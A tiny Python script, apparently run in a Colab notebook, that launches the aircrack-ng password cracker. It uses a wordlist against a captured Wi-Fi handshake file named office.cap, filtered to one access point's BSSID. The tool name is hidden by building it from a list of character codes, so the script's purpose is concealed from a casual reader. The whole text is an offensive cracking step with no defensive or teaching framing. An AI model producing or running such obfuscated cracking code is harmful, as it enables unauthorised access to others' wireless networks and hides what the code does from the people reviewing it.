import subprocess

tool = "".join(map(chr, [97, 105, 114, 99, 114, 97, 99, 107, 45, 110, 103]))
cap = "/content/drive/MyDrive/caps/office.cap"
subprocess.run([tool, "-w", "/content/wl.txt", "-b", "AA:BB:CC:DD:EE:FF", cap])
